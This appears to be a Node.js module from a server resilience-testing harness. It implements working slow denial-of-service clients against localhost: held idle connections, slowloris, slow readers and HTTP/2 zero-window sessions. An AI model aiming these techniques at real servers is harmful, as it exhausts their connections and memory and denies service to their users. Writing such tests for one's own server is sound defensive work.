// Connections that cost their owner nothing and the server a place or memory.
import http2 from 'node:http2'
import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'

/** What all kinds take: `port`, `from` ("address" or "/64") and the answers that are `large`. */
function source({ options, random }) {
  const from64 = options.from === '/64'
  const host = from64 ? '::1' : '127.0.0.1'
  const localAddress = () => (from64 ? `2001:db8:1::${(1 + random.below(0xfffe)).toString(16)}` : options.address ?? '127.1.0.1')
  return () => ({ port: options.port, host, localAddress: localAddress(), noDelay: true })
}

const get = (path) => `GET ${path} HTTP/1.1\r\nhost: localhost\r\n\r\n`

/** A connection that the party keeps for as long as the server does. */
function hold(party, to, begin) {
  const socket = connect(to())
  party.count('opened')
  let spoke = false
  socket.on('connect', () => begin(socket))
  socket.on('data', (data) => {
    if (!spoke) party.count(`answered ${data.toString('latin1', 9, 12)}`)
    spoke = true
  })
  socket.on('error', (error) => party.count(`refused: ${error.code}`))
  socket.on('close', () => party.count(spoke ? 'closed after its answer' : 'closed without a word'))
  return socket
}

/** `most` connections, `rate` new ones a second, each after one request; those that are closed are opened again. */
export async function idle(party) {
  const { options } = party
  const to = source(party)
  let open = 0
  party.ready()
  await party.pace(options.rate, () => {
    if (open >= options.most) return
    open++
    hold(party, to, (socket) => socket.write(get(options.path))).on('close', () => open--)
    party.counts['held at once'] = Math.max(party.counts['held at once'] ?? 0, open)
  })
}

/** The same, each with a header that never ends. */
export async function slowloris(party) {
  const { options, random } = party
  const to = source(party)
  const open = new Set()
  party.ready()
  const drip = async () => {
    while (!party.stopped) {
      await sleep(1000)
      for (const socket of open) if (socket.writable) socket.write(`x-${random.below(1e6)}: a\r\n`)
    }
  }
  drip()
  await party.pace(options.rate, () => {
    if (open.size >= options.most) return
    const socket = hold(party, to, () => socket.write(`GET ${options.path} HTTP/1.1\r\nhost: localhost\r\n`))
    open.add(socket)
    socket.on('close', () => open.delete(socket))
    party.counts['held at once'] = Math.max(party.counts['held at once'] ?? 0, open.size)
  })
}

/** The same, each with many requests for what is large, of which a few hundred bytes a second are read. */
export async function slowReaders(party) {
  const { options, random } = party
  const to = source(party)
  let open = 0
  party.ready()
  await party.pace(options.rate, () => {
    if (open >= options.most) return
    open++
    const socket = connect({ ...to(), highWaterMark: 256 })
    socket.on('connect', () => {
      party.count('opened')
      socket.pause()
      for (let i = 0; i < 100; i++) socket.write(get(random.pick(options.large)))
      party.count('requests', 100)
    })
    const drop = setInterval(() => party.count('bytes read', socket.read(200)?.length ?? 0), 1000)
    socket.on('error', (error) => party.count(`refused: ${error.code}`))
    socket.on('close', () => {
      clearInterval(drop)
      party.count('closed')
      open--
    })
  })
}

/** The same over HTTP/2 with no room for any answer: pings are answered, data is never let through. */
export async function windowZero(party) {
  const { options, random } = party
  const to = source(party)
  let open = 0
  party.ready()
  await party.pace(options.rate, () => {
    if (open >= options.most) return
    open++
    const session = http2.connect('http://localhost', { settings: { initialWindowSize: 0 }, createConnection: () => connect(to()) })
    party.count('opened')
    session.on('error', (error) => party.count(`refused: ${error.code}`))
    session.on('close', () => {
      party.count('closed')
      open--
    })
    session.on('connect', () => {
      for (let i = 0; i < 32; i++) stream(party, session, random.pick(options.large))
    })
  })
}

function stream(party, session, path) {
  const stream = session.request({ ':path': path })
  party.count('requests')
  stream.on('response', (headers) => party.count(`answered ${headers[':status']}`))
  // Another one in the place of each that is over.
  stream.on('close', () => !session.closed && !session.destroyed && !party.stopped && setTimeout(() => again(party, session, path), 1000))
  stream.on('error', () => {})
}

const again = (party, session, path) => !session.closed && !session.destroyed && stream(party, session, path)
